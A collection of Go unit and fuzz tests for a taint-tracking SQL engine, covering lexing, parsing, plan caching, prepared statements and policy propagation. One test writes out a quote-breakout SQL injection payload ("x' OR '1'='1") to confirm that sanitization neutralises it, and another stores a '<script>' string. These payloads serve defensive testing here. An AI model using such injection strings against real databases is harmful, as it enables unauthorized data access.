	k3, _ := planKey(lex("SELECT a FROM t WHERE a = 'x' OR a = 'y'"), planModeStandard)
	if k1 == k3 {
		t.Error("different shapes must not share a key")
	}
	k4, _ := planKey(lex("SELECT a FROM t WHERE a = 'x'"), planModeAutoSanitize)
	if k1 == k4 {
		t.Error("auto-sanitize mode must not share keys with the standard lexer")
	}
	k5, lits5 := planKey(lex("SELECT a FROM t LIMIT 5"), planModeStandard)
	k6, _ := planKey(lex("SELECT a FROM t LIMIT 6"), planModeStandard)
	if k5 == k6 {
		t.Error("LIMIT counts must stay literal in the key")
	}
	if len(lits5) != 0 {
		t.Errorf("LIMIT count must not be collected as a bindable literal, got %d", len(lits5))
	}
}

func TestPlanCacheBoundedFlush(t *testing.T) {
	c := newPlanCache()
	for i := 0; i < planCacheCap+10; i++ {
		q := fmt.Sprintf("SELECT c%d FROM t%d", i, i)
		toks, err := Lex(core.NewString(q))
		if err != nil {
			t.Fatal(err)
		}
		if _, _, err := c.prepare(toks, planModeStandard, nil); err != nil {
			t.Fatal(err)
		}
	}
	c.mu.Lock()
	n := len(c.m)
	c.mu.Unlock()
	if n > planCacheCap {
		t.Errorf("plan cache grew past its cap: %d > %d", n, planCacheCap)
	}
}

func TestPlanCacheMultiRowInsertShapes(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	// Same statement kind, different row counts: distinct shapes.
	db.MustExec("INSERT INTO t (id, name) VALUES (1, 'a')")
	db.MustExec("INSERT INTO t (id, name) VALUES (2, 'b'), (3, 'c')")
	db.MustExec("INSERT INTO t (id, name) VALUES (4, 'd'), (5, 'e')") // cached 2-row shape
	res, err := db.QueryRaw("SELECT id FROM t ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 5 {
		t.Fatalf("got %d rows, want 5", res.Len())
	}
	for i := 0; i < 5; i++ {
		if got := res.Get(i, "id").Int.Value(); got != int64(i+1) {
			t.Errorf("row %d: id %d, want %d", i, got, i+1)
		}
	}
}

func TestPlanCacheSharedAcrossTransactions(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT)")
	db.MustExec("INSERT INTO t (id) VALUES (1)")

	tx := db.Begin()
	if _, err := tx.QueryRaw("INSERT INTO t (id) VALUES (2)"); err != nil {
		t.Fatal(err)
	}
	res, err := tx.QueryRaw("SELECT id FROM t WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("tx read its own write through the plan cache: got %d rows", res.Len())
	}
	// The main engine must not see the speculative write even though the
	// plan (and its schema-generation state) is shared.
	main, err := db.QueryRaw("SELECT id FROM t WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	if main.Len() != 0 {
		t.Fatal("speculative write leaked to the main engine")
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	after, err := db.QueryRaw("SELECT id FROM t WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	if after.Len() != 1 {
		t.Fatal("committed write not visible")
	}
}

func TestAutoSanitizePlansDoNotLeakAcrossModes(t *testing.T) {
	db := openDB(t)
	db.Filter().AutoSanitizeUntrusted(true)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('safe')")

	// An untrusted value containing a quote-breakout payload: under the
	// auto-sanitizing lexer the whole run is one value token.
	payload := core.NewStringPolicy("x' OR '1'='1", &sanitize.UntrustedData{Source: "test"})
	q := core.Concat(
		core.NewString("SELECT a FROM t WHERE a = '"),
		payload,
		core.NewString("'"),
	)
	res, err := db.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Fatal("auto-sanitized payload must not match (injection would return rows)")
	}
	// Run it again: the auto-mode plan is cached; the payload must stay
	// inert on the hit path too.
	res, err = db.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Fatal("cached auto-sanitized plan let the payload match")
	}
}

func TestParameterizeRoundTrip(t *testing.T) {
	toks, err := Lex(core.NewString("UPDATE t SET a = 'v', n = 7 WHERE id = 3 AND a LIKE 'p%'"))
	if err != nil {
		t.Fatal(err)
	}
	_, lits := planKey(toks, planModeStandard)
	tmpl, err := ParseTokens(parameterize(toks))
	if err != nil {
		t.Fatal(err)
	}
	binds, err := literalBinds(lits, nil)
	if err != nil {
		t.Fatal(err)
	}
	bound, err := bindStatement(tmpl, binds, nil)
	if err != nil {
		t.Fatal(err)
	}
	direct, err := ParseTokens(toks)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := bound.SQL(), direct.SQL(); got != want {
		t.Errorf("bound statement differs from direct parse:\n got %s\nwant %s", got, want)
	}
	if !strings.Contains(tmpl.SQL(), "?") {
		t.Errorf("template should contain parameter slots, got %s", tmpl.SQL())
	}
}

// TestCachedRangePlanFollowsIndexDDL verifies the invalidation story
// for range/ORDER BY plans: the template a plan caches is
// schema-independent (the predicate analyzer runs per execution against
// the engine's current indexes, under the same lock as the data), so a
// cached plan must pick up a CREATE INDEX immediately — same results,
// post-sort gone — and survive DROP INDEX just as transparently. The
// schema generation stamp only guards the plan's policy-column state;
// this pins that nothing about range plans needs more than that.
func TestCachedRangePlanFollowsIndexDDL(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	for i := 0; i < 50; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO t (id, name) VALUES (%d, 'n%02d')", i, i))
	}
	const q = "SELECT name FROM t WHERE id >= 10 AND id < 20 ORDER BY id DESC"
	run := func() (*Result, uint64) {
		t.Helper()
		s0 := SortCount()
		res, err := db.QueryRaw(q)
		if err != nil {
			t.Fatal(err)
		}
		return res, SortCount() - s0
	}

	base, sorts := run()
	if sorts != 1 {
		t.Fatalf("unindexed range query did %d sorts, want 1", sorts)
	}
	if _, sorts = run(); sorts != 1 { // now a plan-cache hit, still sorting
		t.Fatalf("cached unindexed plan did %d sorts, want 1", sorts)
	}

	db.MustExec("CREATE INDEX ON t (id)") // bumps the schema generation
	indexed, sorts := run()
	if sorts != 0 {
		t.Fatalf("cached plan after CREATE INDEX did %d sorts, want pushdown (0)", sorts)
	}
	requireSameResults(t, q, indexed, base)

	db.MustExec("DROP INDEX ON t (id)")
	dropped, sorts := run()
	if sorts != 1 {
		t.Fatalf("cached plan after DROP INDEX did %d sorts, want 1", sorts)
	}
	requireSameResults(t, q, dropped, base)
}
