package sqldb

import (
	"fmt"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// FuzzJoinAggregate feeds arbitrary query tails to a fixed two-table
// SELECT prefix and diffs the planned executor (hash join, cost hook,
// index-assisted LIMIT) against the nested-loop/scan reference executor
// on the same database. The invariants: never panic, fail with
// byte-identical error text, or succeed with identical rows, order, and
// decoded policy sets (requireSameResults — aggregate policy unions
// included). Runs in the CI fuzz smoke alongside FuzzPredicateAnalyzer.
func FuzzJoinAggregate(f *testing.F) {
	db := Open(core.NewRuntime())
	db.MustExec("CREATE TABLE papers (id INT, title TEXT, score INT)")
	db.MustExec("CREATE TABLE reviews (paper INT, reviewer TEXT, score INT)")
	// Seed with NULL join keys, dangling references, duplicates on both
	// sides, and tainted text so the diff covers policy decode through
	// both executors.
	for i := 0; i < 24; i++ {
		idLit := fmt.Sprintf("%d", i%9)
		if i%7 == 0 {
			idLit = "NULL"
		}
		q := core.Concat(
			core.NewString(fmt.Sprintf("INSERT INTO papers (id, title, score) VALUES (%s, '", idLit)),
			core.NewStringPolicy(fmt.Sprintf("t%d", i%5), &sanitize.UntrustedData{Source: "fuzz"}),
			core.NewString(fmt.Sprintf("', %d)", i%4)),
		)
		if _, err := db.Query(q); err != nil {
			f.Fatal(err)
		}
		paperLit := fmt.Sprintf("%d", i%12) // some point past every paper
		if i%8 == 0 {
			paperLit = "NULL"
		}
		q = core.Concat(
			core.NewString(fmt.Sprintf("INSERT INTO reviews (paper, reviewer, score) VALUES (%s, '", paperLit)),
			core.NewStringPolicy(fmt.Sprintf("r%d", i%6), &sanitize.UntrustedData{Source: "fuzz"}),
			core.NewString(fmt.Sprintf("', %d)", i%5)),
		)
		if _, err := db.Query(q); err != nil {
			f.Fatal(err)
		}
	}
	db.MustExec("CREATE INDEX ON papers (id)")
	db.MustExec("CREATE INDEX ON reviews (paper)")

	for _, seed := range []string{
		"papers.title FROM papers INNER JOIN reviews ON papers.id = reviews.paper",
		"* FROM papers LEFT JOIN reviews ON papers.id = reviews.paper ORDER BY papers.id",
		"title, reviewer FROM papers JOIN reviews ON id = paper ORDER BY reviewer DESC LIMIT 3",
		"papers.id, COUNT(*) FROM papers LEFT JOIN reviews ON papers.id = reviews.paper GROUP BY papers.id",
		"reviewer, SUM(reviews.score), MIN(papers.title) FROM papers JOIN reviews ON id = paper GROUP BY reviewer ORDER BY reviewer",
		"COUNT(*), SUM(score) FROM papers",
		"MAX(title) FROM papers WHERE score > 2",
		"paper, COUNT(paper), MAX(reviewer) FROM reviews GROUP BY paper ORDER BY paper DESC LIMIT 4",
		"score FROM papers JOIN reviews ON papers.id = reviews.paper",
		"title FROM papers JOIN reviews ON papers.id = papers.score",
		"SUM(title) FROM papers",
		"* FROM papers GROUP BY title",
		"title, COUNT(*) FROM papers GROUP BY score",
		"papers.score, reviews.score FROM papers JOIN reviews ON papers.score = reviews.score WHERE reviewer LIKE 'r%' ORDER BY papers.id LIMIT 5",
		"COUNT(*) FROM papers ORDER BY title",
		"PUNION(title) FROM papers GROUP BY score",
	} {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, tail string) {
		q := "SELECT " + tail
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			return // parse rejection is a valid outcome; no executor ran
		}
		sel, ok := stmt.(*Select)
		if !ok {
			return // the prefix does not force SELECT; other verbs have no dual executor
		}
		e := db.Engine()
		planned, aerr := executeWithPolicies(e, sel)
		forced := *sel
		forced.ForceLoop, forced.ForceScan = true, true
		oracle, berr := executeWithPolicies(e, &forced)
		if (aerr == nil) != (berr == nil) {
			t.Fatalf("%q: planned err=%v, oracle err=%v", q, aerr, berr)
		}
		if aerr != nil {
			if aerr.Error() != berr.Error() {
				t.Fatalf("%q: error text differs:\n  planned %v\n  oracle  %v", q, aerr, berr)
			}
			return
		}
		requireSameResults(t, q, planned, oracle)
	})
}
