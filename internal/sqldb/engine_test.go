package sqldb

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"resin/internal/core"
)

func lexTypes(t *testing.T, q string) []TokenType {
	t.Helper()
	toks, err := Lex(core.NewString(q))
	if err != nil {
		t.Fatalf("Lex(%q): %v", q, err)
	}
	var out []TokenType
	for _, tok := range toks {
		out = append(out, tok.Type)
	}
	return out
}

func TestLexBasics(t *testing.T) {
	toks, err := Lex(core.NewString("SELECT a, b FROM t WHERE x = 'it''s' AND y >= -3 -- trailing"))
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, tok := range toks {
		kinds = append(kinds, tok.Type.String())
	}
	want := []string{"keyword", "identifier", "comma", "identifier", "keyword", "identifier",
		"keyword", "identifier", "operator", "string", "keyword", "identifier", "operator", "number", "EOF"}
	if strings.Join(kinds, " ") != strings.Join(want, " ") {
		t.Errorf("kinds = %v", kinds)
	}
	// The string literal decodes the doubled quote.
	for _, tok := range toks {
		if tok.Type == TokString {
			if tok.Value.Raw() != "it's" {
				t.Errorf("string value = %q", tok.Value.Raw())
			}
		}
	}
}

func TestLexStringEscapes(t *testing.T) {
	cases := []struct{ in, want string }{
		{`'plain'`, "plain"},
		{`''`, ""},
		{`'it''s'`, "it's"},
		{`'back\\slash'`, `back\slash`},
		{`'\''`, "'"},
	}
	for _, c := range cases {
		toks, err := Lex(core.NewString(c.in))
		if err != nil {
			t.Fatalf("Lex(%q): %v", c.in, err)
		}
		if toks[0].Type != TokString || toks[0].Value.Raw() != c.want {
			t.Errorf("Lex(%q) value = %q, want %q", c.in, toks[0].Value.Raw(), c.want)
		}
	}
}

func TestLexErrors(t *testing.T) {
	for _, q := range []string{"'unterminated", `'dangling\`, "a $ b", "!x"} {
		if _, err := Lex(core.NewString(q)); err == nil {
			t.Errorf("Lex(%q) should fail", q)
		}
	}
}

func TestLexPolicyPropagationIntoLiterals(t *testing.T) {
	p := &allowPolicy{}
	q := core.Concat(
		core.NewString("SELECT x FROM t WHERE n='"),
		core.NewStringPolicy("se''cret", p),
		core.NewString("'"),
	)
	toks, err := Lex(q)
	if err != nil {
		t.Fatal(err)
	}
	var lit core.String
	for _, tok := range toks {
		if tok.Type == TokString {
			lit = tok.Value
		}
	}
	if lit.Raw() != "se'cret" {
		t.Fatalf("decoded = %q", lit.Raw())
	}
	if !lit.HasPolicyEverywhere(func(q core.Policy) bool { return q == p }) {
		t.Error("decoded literal must carry source policies on every byte")
	}
}

type allowPolicy struct{}

func (p *allowPolicy) ExportCheck(ctx *core.Context) error { return nil }

func TestStructuralClassification(t *testing.T) {
	structural := []TokenType{TokKeyword, TokIdent, TokOp, TokComma, TokLParen, TokRParen, TokStar, TokSemi}
	for _, tt := range structural {
		if !tt.Structural() {
			t.Errorf("%s should be structural", tt)
		}
	}
	for _, tt := range []TokenType{TokString, TokNumber, TokEOF} {
		if tt.Structural() {
			t.Errorf("%s should not be structural", tt)
		}
	}
}

func TestParseRoundTrip(t *testing.T) {
	cases := []string{
		"CREATE TABLE users (name TEXT, age INT)",
		"DROP TABLE users",
		"INSERT INTO users (name, age) VALUES ('alice', 30)",
		"INSERT INTO users (name, age) VALUES ('a', 1), ('b', 2)",
		"SELECT * FROM users",
		"SELECT name, age FROM users WHERE (age >= 18 AND name != 'bob') ORDER BY age DESC LIMIT 5",
		"UPDATE users SET age = 31, name = 'al' WHERE name = 'alice'",
		"DELETE FROM users WHERE age < 0",
		"SELECT name FROM users WHERE name LIKE 'a%'",
		"SELECT name FROM users WHERE NOT (age = 1 OR age = 2)",
		"SELECT name FROM users WHERE bio = NULL",
	}
	for _, q := range cases {
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			t.Fatalf("Parse(%q): %v", q, err)
		}
		// Reparse the rendering; must parse cleanly and render identically.
		again, err := Parse(core.NewString(stmt.SQL()))
		if err != nil {
			t.Fatalf("reparse %q: %v", stmt.SQL(), err)
		}
		if again.SQL() != stmt.SQL() {
			t.Errorf("render not stable: %q vs %q", again.SQL(), stmt.SQL())
		}
	}
}

func TestParseErrors(t *testing.T) {
	cases := []string{
		"",
		"BOGUS things",
		"SELECT FROM t",
		"SELECT * FROM",
		"SELECT * FROM t WHERE",
		"INSERT INTO t VALUES (1)",         // missing column list
		"INSERT INTO t (a, b) VALUES (1)",  // arity mismatch
		"UPDATE t SET a 1",                 // missing =
		"CREATE TABLE t (a BLOB)",          // bad type
		"CREATE TABLE t (a TEXT",           // missing paren
		"DELETE t",                         // missing FROM
		"SELECT * FROM t; SELECT * FROM u", // stacked queries
		"SELECT * FROM t LIMIT 'x'",        // bad limit
		"SELECT * FROM t WHERE SELECT",     // keyword in expr
		"DROP users",                       // missing TABLE
	}
	for _, q := range cases {
		if _, err := Parse(core.NewString(q)); err == nil {
			t.Errorf("Parse(%q) should fail", q)
		}
	}
}

func TestParseTrailingSemicolon(t *testing.T) {
	if _, err := Parse(core.NewString("SELECT * FROM t;")); err != nil {
		t.Errorf("trailing semicolon should parse: %v", err)
	}
}

func mustExecRaw(t *testing.T, e *Engine, q string) (*rawResult, int) {
	t.Helper()
	stmt, err := Parse(core.NewString(q))
	if err != nil {
		t.Fatalf("parse %q: %v", q, err)
	}
	raw, n, err := e.ExecuteRaw(stmt)
	if err != nil {
		t.Fatalf("exec %q: %v", q, err)
	}
	return raw, n
}

func TestEngineCRUD(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE users (name TEXT, age INT, bio TEXT)")
	_, n := mustExecRaw(t, e, "INSERT INTO users (name, age) VALUES ('alice', 30), ('bob', 25), ('carol', 35)")
	if n != 3 {
		t.Fatalf("inserted %d", n)
	}
	raw, _ := mustExecRaw(t, e, "SELECT name FROM users WHERE age > 26 ORDER BY age DESC")
	if len(raw.rows) != 2 || raw.rows[0][0].s != "carol" || raw.rows[1][0].s != "alice" {
		t.Fatalf("rows = %+v", raw.rows)
	}
	// bio was not inserted: NULL.
	raw, _ = mustExecRaw(t, e, "SELECT bio FROM users WHERE name = 'alice'")
	if !raw.rows[0][0].null {
		t.Error("missing column should be NULL")
	}
	_, n = mustExecRaw(t, e, "UPDATE users SET age = 31 WHERE name = 'alice'")
	if n != 1 {
		t.Fatalf("updated %d", n)
	}
	raw, _ = mustExecRaw(t, e, "SELECT age FROM users WHERE name = 'alice'")
	if raw.rows[0][0].i != 31 {
		t.Errorf("age = %v", raw.rows[0][0])
	}
	_, n = mustExecRaw(t, e, "DELETE FROM users WHERE age < 30")
	if n != 1 {
		t.Fatalf("deleted %d", n)
	}
	raw, _ = mustExecRaw(t, e, "SELECT * FROM users ORDER BY name")
	if len(raw.rows) != 2 {
		t.Fatalf("remaining = %d", len(raw.rows))
	}
	mustExecRaw(t, e, "DROP TABLE users")
	if _, _, err := e.ExecuteRaw(&Select{Table: "users", Star: true, Limit: -1}); !errors.Is(err, ErrNoTable) {
		t.Errorf("select after drop: %v", err)
	}
}

func TestEngineErrors(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (a TEXT)")
	for _, q := range []string{
		"CREATE TABLE t (a TEXT)",            // exists
		"SELECT b FROM t",                    // no column
		"SELECT * FROM missing",              // no table
		"INSERT INTO t (b) VALUES (1)",       // no column
		"INSERT INTO missing (a) VALUES (1)", // no table
		"UPDATE t SET b = 1",                 // no column
		"UPDATE missing SET a = 1",           // no table
		"DELETE FROM missing",                // no table
		"DROP TABLE missing",                 // no table
		"SELECT * FROM t ORDER BY b",         // no order column
		"SELECT * FROM t WHERE b = 1",        // no where column
		"CREATE TABLE u (a TEXT, a INT)",     // dup column
		"INSERT INTO t (a) VALUES (1, 2)",    // arity (parse)
	} {
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			continue // parse-time rejection is fine too
		}
		if _, _, err := e.ExecuteRaw(stmt); err == nil {
			t.Errorf("exec %q should fail", q)
		}
	}
}

func TestEngineTypeCoercion(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (n INT, s TEXT)")
	// String into INT column parses; number into TEXT renders.
	mustExecRaw(t, e, "INSERT INTO t (n, s) VALUES ('42', 7)")
	raw, _ := mustExecRaw(t, e, "SELECT n, s FROM t")
	if raw.rows[0][0].i != 42 || raw.rows[0][1].s != "7" {
		t.Errorf("coercion = %+v", raw.rows[0])
	}
	stmt, _ := Parse(core.NewString("INSERT INTO t (n) VALUES ('not-a-number')"))
	if _, _, err := e.ExecuteRaw(stmt); !errors.Is(err, ErrTypeMismatch) {
		t.Errorf("bad int insert: %v", err)
	}
}

func TestEngineNullComparisons(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (a TEXT, b TEXT)")
	mustExecRaw(t, e, "INSERT INTO t (a) VALUES ('x')")
	raw, _ := mustExecRaw(t, e, "SELECT a FROM t WHERE b = 'anything'")
	if len(raw.rows) != 0 {
		t.Error("NULL comparison must not match")
	}
	raw, _ = mustExecRaw(t, e, "SELECT a FROM t WHERE b != 'anything'")
	if len(raw.rows) != 0 {
		t.Error("NULL != must not match either")
	}
}

func TestEngineLike(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (s TEXT)")
	mustExecRaw(t, e, "INSERT INTO t (s) VALUES ('hello'), ('help'), ('world'), ('h')")
	cases := []struct {
		pat  string
		want int
	}{
		{"hel%", 2},
		{"%o%", 2},
		{"h_lp", 1},
		{"h", 1},
		{"%", 4},
		{"_", 1},
		{"z%", 0},
	}
	for _, c := range cases {
		raw, _ := mustExecRaw(t, e, "SELECT s FROM t WHERE s LIKE '"+c.pat+"'")
		if len(raw.rows) != c.want {
			t.Errorf("LIKE %q matched %d, want %d", c.pat, len(raw.rows), c.want)
		}
	}
}

func TestLikeMatchUnit(t *testing.T) {
	cases := []struct {
		s, p string
		want bool
	}{
		{"", "", true},
		{"", "%", true},
		{"a", "", false},
		{"abc", "abc", true},
		{"abc", "a%c", true},
		{"abc", "a_c", true},
		{"abc", "a_b", false},
		{"aXbXc", "a%b%c", true},
		{"abc", "%%%", true},
	}
	for _, c := range cases {
		if got := likeMatch(c.s, c.p); got != c.want {
			t.Errorf("likeMatch(%q, %q) = %v", c.s, c.p, got)
		}
	}
}

func TestEngineOrderByNullsFirst(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (a TEXT, k INT)")
	mustExecRaw(t, e, "INSERT INTO t (a, k) VALUES ('b', 1), (NULL, 2), ('a', 3)")
	raw, _ := mustExecRaw(t, e, "SELECT k FROM t ORDER BY a")
	if raw.rows[0][0].i != 2 {
		t.Errorf("NULL should sort first: %+v", raw.rows)
	}
}

func TestEngineLimitAndTables(t *testing.T) {
	e := NewEngine()
	mustExecRaw(t, e, "CREATE TABLE t (n INT)")
	mustExecRaw(t, e, "INSERT INTO t (n) VALUES (1), (2), (3)")
	raw, _ := mustExecRaw(t, e, "SELECT n FROM t LIMIT 2")
	if len(raw.rows) != 2 {
		t.Errorf("limit rows = %d", len(raw.rows))
	}
	raw, _ = mustExecRaw(t, e, "SELECT n FROM t LIMIT 0")
	if len(raw.rows) != 0 {
		t.Errorf("limit 0 rows = %d", len(raw.rows))
	}
	if got := e.Tables(); len(got) != 1 || got[0] != "t" {
		t.Errorf("tables = %v", got)
	}
}

// Property: quoting via the AST renderer always reparses to the same
// string value — the engine-level analogue of the sanitizer property.
func TestQuickStringLitRenderRoundTrip(t *testing.T) {
	f := func(s string) bool {
		if strings.ContainsRune(s, 0) {
			return true // NULs are not representable in the dialect
		}
		lit := &StringLit{Val: core.NewString(s)}
		q := "SELECT a FROM t WHERE a = " + lit.SQL()
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			return false
		}
		sel := stmt.(*Select)
		bin := sel.Where.(*Binary)
		got, ok := bin.R.(*StringLit)
		return ok && got.Val.Raw() == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: the lexer never panics and token ranges tile the input.
func TestQuickLexRanges(t *testing.T) {
	f := func(q string) bool {
		toks, err := Lex(core.NewString(q))
		if err != nil {
			return true // rejection is fine; no panic is the property
		}
		prev := 0
		for _, tok := range toks {
			if tok.Start < prev || tok.End < tok.Start || tok.End > len(q) {
				return false
			}
			prev = tok.End
		}
		return toks[len(toks)-1].Type == TokEOF
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}
