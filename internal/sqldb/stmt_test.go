package sqldb

import (
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// TestPreparedStatementBasics: a statement mixing inline literals and
// `?` placeholders prepares once and executes with bound values.
func TestPreparedStatementBasics(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE users (name TEXT, role TEXT, age INT)")

	ins := db.MustPrepare("INSERT INTO users (name, role, age) VALUES (?, 'user', ?)")
	if ins.NumArgs() != 2 {
		t.Fatalf("NumArgs = %d, want 2", ins.NumArgs())
	}
	if n, err := ins.Exec("alice", 30); err != nil || n != 1 {
		t.Fatalf("Exec = %d, %v", n, err)
	}
	if n, err := ins.Exec("bob", 40); err != nil || n != 1 {
		t.Fatalf("Exec = %d, %v", n, err)
	}

	sel := db.MustPrepare("SELECT name, age FROM users WHERE role = 'user' AND age > ?")
	res, err := sel.Query(35)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "bob" {
		t.Fatalf("got %d rows, first name %q", res.Len(), res.Get(0, "name").Str.Raw())
	}

	upd := db.MustPrepare("UPDATE users SET age = ? WHERE name = ?")
	if n, err := upd.Exec(31, "alice"); err != nil || n != 1 {
		t.Fatalf("update = %d, %v", n, err)
	}
	del := db.MustPrepare("DELETE FROM users WHERE name = ?")
	if n, err := del.Exec("bob"); err != nil || n != 1 {
		t.Fatalf("delete = %d, %v", n, err)
	}
}

// TestPreparedZeroTokenizeZeroParse pins the prepared-statement
// contract: after Prepare, repeated executions invoke neither the
// tokenizer nor the parser.
func TestPreparedZeroTokenizeZeroParse(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, v TEXT)")
	ins := db.MustPrepare("INSERT INTO t (id, v) VALUES (?, ?)")
	sel := db.MustPrepare("SELECT v FROM t WHERE id = ?")
	if _, err := sel.Query(0); err != nil { // warm the schema-derived plan state
		t.Fatal(err)
	}

	lex0, parse0 := TokenizeCount(), ParseCount()
	for i := 0; i < 200; i++ {
		if _, err := ins.Exec(i, "v"); err != nil {
			t.Fatal(err)
		}
		res, err := sel.Query(i)
		if err != nil {
			t.Fatal(err)
		}
		if res.Len() != 1 {
			t.Fatalf("row %d missing", i)
		}
	}
	if lexed := TokenizeCount() - lex0; lexed != 0 {
		t.Errorf("prepared executions tokenized %d times, want 0", lexed)
	}
	if parsed := ParseCount() - parse0; parsed != 0 {
		t.Errorf("prepared executions parsed %d times, want 0", parsed)
	}
}

// TestPreparedSharesPlanWithSplicedText: a prepared statement and the
// spliced text of the same shape share one plan-cache template (the
// canonical key replaces literals and placeholders alike with `?`).
func TestPreparedSharesPlanWithSplicedText(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, v TEXT)")
	db.MustExec("INSERT INTO t (id, v) VALUES (1, 'x')")
	if _, err := db.QueryRaw("SELECT v FROM t WHERE id = 7"); err != nil {
		t.Fatal(err)
	}
	misses := db.Filter().PlanStats().Misses
	st := db.MustPrepare("SELECT v FROM t WHERE id = ?")
	if _, err := st.Query(1); err != nil {
		t.Fatal(err)
	}
	if after := db.Filter().PlanStats().Misses; after != misses {
		t.Errorf("preparing the spliced shape re-compiled the template: misses %d -> %d", misses, after)
	}
}

// TestBindArity: placeholder count and argument count must match, on
// every query surface.
func TestBindArity(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT, b TEXT)")

	st := db.MustPrepare("INSERT INTO t (a, b) VALUES (?, ?)")
	if _, err := st.Exec("one"); err == nil || !strings.Contains(err.Error(), "2 placeholder(s) but 1") {
		t.Errorf("missing arg: %v", err)
	}
	if _, err := st.Exec("one", "two", "three"); err == nil || !strings.Contains(err.Error(), "2 placeholder(s) but 3") {
		t.Errorf("extra arg: %v", err)
	}

	if _, err := db.QueryRaw("SELECT a FROM t WHERE a = ?"); err == nil {
		t.Error("variadic DB.Query accepted a placeholder with no argument")
	}
	if _, err := db.QueryRaw("SELECT a FROM t", "stray"); err == nil {
		t.Error("variadic DB.Query accepted an argument with no placeholder")
	}

	tx := db.Begin()
	if _, err := tx.QueryRaw("SELECT a FROM t WHERE a = ?"); err == nil {
		t.Error("Tx.Query accepted a placeholder with no argument")
	}
	if err := tx.Rollback(); err != nil {
		t.Fatal(err)
	}
	view := &View{engine: db.Engine()}
	if _, err := view.QueryRaw("SELECT a FROM t WHERE a = ?"); err == nil {
		t.Error("View.Query accepted a placeholder with no argument")
	}
}

// TestVariadicQueryBindsValues: the variadic DB.Query form binds
// tracked and plain values through the filter channel.
func TestVariadicQueryBindsValues(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE kv (k TEXT, v INT)")
	tainted := sanitize.Taint(core.NewString("key-1"), "form:k")
	if _, err := db.Query(core.NewString("INSERT INTO kv (k, v) VALUES (?, ?)"), tainted, 7); err != nil {
		t.Fatal(err)
	}
	res, err := db.Query(core.NewString("SELECT k, v FROM kv WHERE k = ?"), "key-1")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "v").Int.Value() != 7 {
		t.Fatalf("got %d rows", res.Len())
	}
	if !res.Get(0, "k").Str.Policies().Any(sanitize.IsUntrusted) {
		t.Error("bound tracked value lost its policy through the variadic path")
	}
}

// TestBoundPolicyRoundTrip is the satellite acceptance test: an
// UntrustedData-tainted value bound via `?` must come back from SELECT
// carrying the same policies, decoded through the batched
// CompileAnnotation path, with the re-attached set interned — two
// reads of the same annotation share one policy-set pointer.
func TestBoundPolicyRoundTrip(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE notes (id INT, body TEXT)")

	tainted := sanitize.Taint(core.NewString("hello <script>"), "form:body")
	ins := db.MustPrepare("INSERT INTO notes (id, body) VALUES (?, ?)")
	if _, err := ins.Exec(1, tainted); err != nil {
		t.Fatal(err)
	}

	sel := db.MustPrepare("SELECT body FROM notes WHERE id = ?")
	res1, err := sel.Query(1)
	if err != nil {
		t.Fatal(err)
	}
	got := res1.Get(0, "body").Str
	if got.Raw() != "hello <script>" {
		t.Fatalf("body = %q", got.Raw())
	}
	if !got.IsTainted() || !got.Policies().Any(sanitize.IsUntrusted) {
		t.Fatal("bound value came back without its UntrustedData policy")
	}
	// Every byte carries the policy (Taint annotates the whole value).
	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
		t.Error("policy does not cover the whole round-tripped value")
	}

	// The batched decode path interns the re-attached set; a second
	// read of the same stored annotation must share the same pointer
	// (core.CompileAnnotation memoizes per annotation bytes).
	res2, err := sel.Query(1)
	if err != nil {
		t.Fatal(err)
	}
	ps1 := res1.Get(0, "body").Str.PoliciesAt(0)
	ps2 := res2.Get(0, "body").Str.PoliciesAt(0)
	if ps1 != ps2 {
		t.Error("two reads of one annotation decoded to different policy-set pointers")
	}
	if ps1.Intern() != ps1 {
		t.Error("round-tripped policy set is not the interned instance")
	}

	// Tainted integers round-trip too: the annotation stored against
